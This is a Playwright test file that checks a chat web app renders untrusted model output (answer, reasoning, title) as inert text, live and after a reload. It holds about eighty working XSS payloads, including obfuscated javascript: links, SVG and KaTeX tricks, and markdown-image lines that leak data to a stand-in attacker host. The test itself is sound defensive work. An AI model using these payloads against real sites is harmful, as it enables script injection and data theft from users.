import { expect, test, type Locator, type Page } from "@playwright/test";
import { ChatPage } from "./support/chat-page";
import { injectFault, uniqueTag } from "./support/simulator";

/**
 * Model output is untrusted: known XSS and exfiltration payloads, delivered through the answer, the
 * reasoning and the conversation title (the simulator says exactly what it is told), are rendered
 * in Chromium live and after a reload. Nothing may run (each payload would set its own
 * `window.__xss_<n>` or raise an alert), nothing may be fetched from another host, and no live
 * dangerous element or link may exist in the page.
 */

const REMOTE_HOST = "attacker.example";

/**
 * Payload templates: `{js}` becomes `window.__xss_<n>=1`, `{n}` the payload's number and `{remote}`
 * a URL on the attacker's host unique to the payload.
 */
const ANSWER_PAYLOADS: string[] = [
  // Script tags and event handlers.
  "<script>{js}</script>",
  '<img src=x onerror="{js}">',
  "<img src=\"{remote}\" onerror=alert({n})>",
  "<svg/onload={js}>",
  '<body onload="{js}">',
  '<details open ontoggle="{js}"><summary>details</summary></details>',
  '<input autofocus onfocus="{js}">',
  '<video><source onerror="{js}"></video>',
  '<audio src=x onerror="{js}"></audio>',
  '<marquee onstart="{js}">marquee</marquee>',
  '<a href="https://ok.example/" onmouseover="{js}">hover me</a>',
  '"><img src=x onerror={js}>',
  // javascript:, vbscript: and data: links.
  "[markdown link](javascript:{js})",
  "[mixed case](JaVaScRiPt:{js})",
  "[entity link](&#106;avascript:{js})",
  "[hex entities](&#x6A;&#x61;vascript&#x3A;{js})",
  "<javascript:{js}>",
  "[reference link][js{n}]\n\n[js{n}]: javascript:{js}",
  "[spaced]( javascript:{js} \"title\")",
  "[vbscript](vbscript:msgbox({n}))",
  "[data link](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX194c3M9MTwvc2NyaXB0Pg==)",
  "[zero\u200dwidth](java\u200bscript:{js})",
  '<a href="javascript:{js}">raw link</a>',
  '<a href="&#x6A;avascript:{js}">raw entity link</a>',
  '[title breakout](https://ok.example/ "\\"><img src=x onerror={js}>")',
  // SVG and MathML.
  "<svg><script>{js}</script></svg>",
  '<svg><a xlink:href="javascript:{js}"><text x="20" y="20">svg link</text></a></svg>',
  '<svg><animate onbegin="{js}" attributeName="x" dur="1s"/></svg>',
  '<svg><image href="{remote}"/></svg>',
  '<svg><foreignObject><iframe src="{remote}"></iframe></foreignObject></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror="{js}"></style></mglyph></table></mtext></math>',
  '<math href="javascript:{js}">mathml link</math>',
  // Frames, objects, base, meta refresh, CSS.
  '<iframe src="{remote}"></iframe>',
  '<iframe srcdoc="<script>parent.__xss_{n}=1</script>"></iframe>',
  '<object data="{remote}"></object>',
  '<embed src="{remote}">',
  `<base href="https://${REMOTE_HOST}/">`,
  '<meta http-equiv="refresh" content="0;url=javascript:{js}">',
  '<link rel="stylesheet" href="{remote}">',
  '<style>@import url("{remote}"); body { background: url("{remote}/bg") }</style>',
  '<div style="background-image:url({remote})">styled div</div>',
  '<form action="javascript:{js}"><button>submit</button></form>',
  '<img srcset="{remote} 1x">',
  '<picture><source srcset="{remote}"><img alt="picture"></picture>',
  '<noscript><p title="</noscript><img src=x onerror={js}>">',
  '<template><img src=x onerror="{js}"></template>',
  // Markdown image tricks.
  `![leak](https://${REMOTE_HOST}/leak?q=SECRET{n})`,
  "![reference image][img{n}]\n\n[img{n}]: {remote}",
  `[![image in a link]({remote})](https://${REMOTE_HOST}/page{n})`,
  "![javascript image](javascript:{js})",
  "![svg data image](data:image/svg+xml;base64,{svg64})",
  // KaTeX.
  "$$\\href{javascript:{js}}{katex link}$$",
  "$\\href{javascript:{js}}{inline katex link}$",
  "$$\\url{javascript:{js}}$$",
  "$$\\htmlId{xss-id-{n}}{a} \\htmlClass{xss-class-{n}}{b} \\htmlData{xss={n}}{c}$$",
  "$$\\includegraphics[height=1em]{{remote}}$$",
  "$$\\htmlStyle{background:url({remote})}{styled}$$",
  "```math\n\\href{javascript:{js}}{fenced katex}\n```",
  // Code containing HTML.
  "```html\n<script>{js}</script>\n<img src=x onerror=\"{js}\">\n```",
  "Inline code: `<img src=x onerror=\"{js}\">`",
  // Unicode and obfuscation.
  "<scr<script>ipt>{js}</scr</script>ipt>",
  "\uff1cscript\uff1e{js}\uff1c/script\uff1e",
  "<IMG SRC=JaVaScRiPt:{js}>",
  '<img src="x" onerror="&#119;indow.__xss_{n}=1">',
  "<img src=x one\u200Brror={js}>",
  "\u202e<img src=x onerror={js}>",
];

const REASONING_PAYLOADS: string[] = [
  "<script>{js}</script>",
  '<img src="{remote}" onerror="{js}">',
  "![leak]({remote})",
  "[x](javascript:{js})",
  '<iframe srcdoc="<script>parent.__xss_{n}=1</script>"></iframe>',
  "<svg onload={js}>",
  "$$\\href{javascript:{js}}{x}$$",
  "<style>*{background:url({remote})}</style>",
  '<details open ontoggle="{js}">',
  '<meta http-equiv="refresh" content="0;url={remote}">',
  '<base href="{remote}/">',
  '<math><a href="javascript:{js}">m</a></math>',
];

/** One per conversation: the first line of the answer, which the title request gets back too. */
const TITLE_PAYLOADS: string[] = [
  "<img src=x onerror=alert({n})>",
  "<script>{js}</script> title",
  "<svg/onload={js}>",
  "[t](javascript:{js}) <iframe src={remote}>",
];

const SAFE_LINK = "[the safe link](https://ok.example/docs)";

let counter = 0;
function fill(template: string): string {
  const n = ++counter;
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="parent.__xss_${n}=1"><script>parent.__xss_${n}=1</script></svg>`;
  return template
    .replaceAll("{js}", `window.__xss_${n}=1`)
    .replaceAll("{remote}", `https://${REMOTE_HOST}/p${n}`)
    .replaceAll("{svg64}", Buffer.from(svg).toString("base64"))
    .replaceAll("{n}", String(n));
}

interface Batch {
  title: string;
  content: string;
  reasoning: string;
}

function batches(count: number): Batch[] {
  const answers = ANSWER_PAYLOADS.map(fill);
  const reasonings = REASONING_PAYLOADS.map(fill);
  const titles = TITLE_PAYLOADS.map(fill);
  return Array.from({ length: count }, (_, i) => {
    const share = <T,>(items: T[]): T[] => items.filter((_, index) => index % count === i);
    const title = titles[i] ?? "";
    const body = share(answers);
    if (i === 0) body.unshift(`Read ${SAFE_LINK} first.`);
    return { title, content: [title, ...body].join("\n\n") + "\n", reasoning: share(reasonings).join("\n\n") };
  });
}

/** Everything the page did that it must not: dialogs, requests to other hosts, new windows. */
function watch(page: Page): { dialogs: string[]; remote: string[]; popups: string[] } {
  const seen = { dialogs: [] as string[], remote: [] as string[], popups: [] as string[] };
  page.on("dialog", (dialog) => {
    seen.dialogs.push(`${dialog.type()}: ${dialog.message()}`);
    void dialog.dismiss().catch(() => {});
  });
  page.context().on("request", (request) => {
    const url = new URL(request.url());
    if (url.protocol === "data:" || url.protocol === "blob:") return;
    if (url.hostname !== "127.0.0.1" && url.hostname !== "localhost") seen.remote.push(request.url());
  });
  page.context().on("page", (other) => seen.popups.push(other.url()));
  return seen;
}

/** Looks at the live DOM of every answer and reasoning for anything that could run or fetch. */
async function inspectAnswers(page: Page): Promise<{ problems: string[]; flags: string[] }> {
  return page.evaluate(() => {
    const problems: string[] = [];
    const describe = (el: Element): string => el.outerHTML.slice(0, 160);
    const roots = [...document.querySelectorAll('[data-testid="assistant-message"]')];
    const dangerous =
      "script, iframe, frame, object, embed, img, image, base, meta, link, style, form, video, audio, source, " +
      "picture, template, noscript, marquee, details, button[form], input:not([type=checkbox]), svg a, svg script, " +
      "svg use, svg animate, svg set, svg foreignObject, math a, math [href], [srcdoc], [srcset], [xlink\\:href]";
    for (const root of roots) {
      for (const el of root.querySelectorAll(dangerous)) problems.push(`element: ${describe(el)}`);
      for (const el of root.querySelectorAll("*")) {
        for (const attr of el.attributes) {
          if (/^on/i.test(attr.name)) problems.push(`handler ${attr.name}: ${describe(el)}`);
          if (/^\s*(javascript|vbscript|data|file):/i.test(attr.value)) problems.push(`url ${attr.name}: ${describe(el)}`);
          if (attr.name === "style" && /url\s*\(|@import|expression/i.test(attr.value)) problems.push(`css: ${describe(el)}`);
        }
      }
      for (const a of root.querySelectorAll("a")) {
        const href = a.getAttribute("href") ?? "";
        if (href.startsWith("#")) continue;
        const url = new URL(a.href);
        if (!["http:", "https:", "mailto:"].includes(url.protocol)) problems.push(`link protocol: ${describe(a)}`);
        const rel = (a.getAttribute("rel") ?? "").split(/\s+/);
        if (!rel.includes("noopener") || !rel.includes("noreferrer") || a.getAttribute("target") !== "_blank") {
          problems.push(`link without new tab/noopener/noreferrer: ${describe(a)}`);
        }
      }
    }
    for (const el of document.querySelectorAll('base, meta[http-equiv], [id^="xss-id-"], [class*="xss-class-"], [data-xss]')) {
      problems.push(`document: ${describe(el)}`);
    }
    const flags = Object.keys(window).filter((key) => key.startsWith("__xss"));
    return { problems, flags };
  });
}

/**
 * Reasoning is plain text apart from its math (KaTeX, trust off): the markup shows as characters
 * and the only elements are KaTeX's, inside the math spans.
 */
async function expectReasoningAsText(reasoning: Locator, expected: string): Promise<void> {
  await expect(reasoning).toBeVisible();
  const outsideMath = await reasoning.evaluate((element) => {
    const copy = element.cloneNode(true) as HTMLElement;
    for (const math of copy.querySelectorAll('[data-testid="reasoning-math"]')) math.remove();
    return copy.textContent;
  });
  expect(outsideMath).toBe(expected.replace(/\$\$[^$]*\$\$/g, ""));
  await expect(reasoning.locator(':scope > *:not([data-testid="reasoning-math"])')).toHaveCount(0);
}

test("untrusted model output (answer, reasoning, title) renders inert, live and after a reload", async ({ page }) => {
  test.setTimeout(150_000);
  const seen = watch(page);
  const chat = new ChatPage(page);
  const tag = uniqueTag("xss");
  const plan = batches(TITLE_PAYLOADS.length);
  const total = ANSWER_PAYLOADS.length + REASONING_PAYLOADS.length + TITLE_PAYLOADS.length;
  expect(total).toBeGreaterThanOrEqual(40);

  const assertClean = async (where: string): Promise<void> => {
    const { problems, flags } = await inspectAnswers(page);
    // One soft comparison per place, so a failure lists everything that went wrong, everywhere.
    expect.soft({ problems, flags, ...seen }, where).toEqual({ problems: [], flags: [], dialogs: [], remote: [], popups: [] });
  };

  const ids: string[] = [];
  for (const [i, batch] of plan.entries()) {
    const match = `${tag}-b${i}-end`;
    await injectFault(match, { kind: "script", reasoning: batch.reasoning, content: batch.content });
    await chat.open();
    await chat.chooseMode("Think High");
    await chat.send(`Render these payloads ${match}`);
    const answer = chat.lastAnswer();
    expect(await chat.waitForAnswerToEnd()).toBe("complete");
    ids.push(chat.conversationIdFromUrl());

    // The payload title arrives as the conversation's title, as text.
    await expect(page.getByTestId("conversation-title")).toHaveText(batch.title);
    await expect(chat.sidebar.locator(`a[href="/c/${ids[i]}"]`)).toHaveText(batch.title);

    // The reasoning is plain text apart from its math (KaTeX, trust off): open it and see the
    // markup as characters; the only elements are KaTeX's, inside the math spans.
    await answer.getByTestId("reasoning-label").click();
    await expectReasoningAsText(answer.getByTestId("reasoning-text"), batch.reasoning);
    await assertClean(`answer ${i + 1}`);
  }

  // What the first answer looks like: raw HTML as text, blocked links marked, images as placeholders.
  await chat.open(`/c/${ids[0]}`);
  const first = chat.lastAnswer().getByTestId("answer-text");
  await expect(first).toContainText("<script>window.__xss_");
  const safe = first.getByRole("link", { name: "the safe link" });
  await expect(safe).toHaveAttribute("href", "https://ok.example/docs");
  await expect(safe).toHaveAttribute("target", "_blank");
  await expect(safe).toHaveAttribute("rel", "noopener noreferrer");
  await expect(first.getByTestId("blocked-link").first()).toContainText("[blocked]");
  const leak = plan.map((batch) => batch.content).join("\n").match(/https:\/\/attacker\.example\/leak\?q=SECRET\d+/)?.[0] ?? "";
  const placeholder = page.getByRole("link", { name: /Image from attacker\.example — open in a new tab · leak/ });
  await chat.open(`/c/${ids[plan.findIndex((batch) => batch.content.includes(leak))]}`);
  await expect(placeholder).toHaveAttribute("href", leak);
  await expect(placeholder).toHaveAttribute("rel", "noopener noreferrer");
  await expect(placeholder).toHaveAttribute("target", "_blank");

  // Stored output renders the same way: every conversation again, from the server.
  for (const [i, batch] of plan.entries()) {
    await chat.open(`/c/${ids[i]}`);
    const answer = chat.lastAnswer();
    await expect(answer.getByTestId("answer-text")).toBeVisible();
    await expect(page).toHaveTitle(`${batch.title} · V4 Chat`);
    await expect(page.getByTestId("conversation-title")).toHaveText(batch.title);
    await expect(page.getByTestId("conversation-title").locator("*")).toHaveCount(0);
    await answer.getByTestId("reasoning-label").click();
    await expectReasoningAsText(answer.getByTestId("reasoning-text"), batch.reasoning);
    // Let anything that might load or run have its chance.
    await page.waitForTimeout(300);
    await assertClean(`reloaded answer ${i + 1}`);
    expect(page.url()).toMatch(new RegExp(`/c/${ids[i]}$`));
  }
});
